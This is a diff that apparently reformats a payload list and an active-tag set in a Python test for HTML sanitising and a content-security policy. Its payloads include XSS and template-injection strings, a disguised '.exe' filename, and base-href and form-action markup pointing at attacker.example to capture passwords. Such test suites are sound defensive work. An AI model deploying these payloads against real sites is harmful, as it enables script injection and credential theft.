@@ -18,11 +18,13 @@ PAYLOADS = (
     "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "{{ 7*7 }}{% raw %}",
     "${7*7}#{7*7}", "%(host)s %s {0.__class__}", "</bdi></dd><iframe src=javascript:alert(1)>", "\u202egnp.exe",
     "<base href=//attacker.example>", "<form action=//attacker.example><input name=password>", "\u2028alert(1)\u2029",
-    "<meta http-equiv=refresh content=0>",    "x\" formaction=\"https://attacker.example", "<style>*{display:none}</style>",
+    "<meta http-equiv=refresh content=0>", 'x" formaction="https://attacker.example', "<style>*{display:none}</style>",
     "\U0001f600<\ud7ff>",
 )  # fmt: skip
 
-ACTIVE = {"script", "iframe", "object", "embed", "base", "svg", "form", "img", "style", "meta", "link", "input", "button"}
+ACTIVE = {
+    "script", "iframe", "object", "embed", "base", "svg", "form", "img", "style", "meta", "link", "input", "button",
+}  # fmt: skip
 POLICY = re.compile(r"default-src 'none'; script-src 'self'; style-src 'self'")
 
 
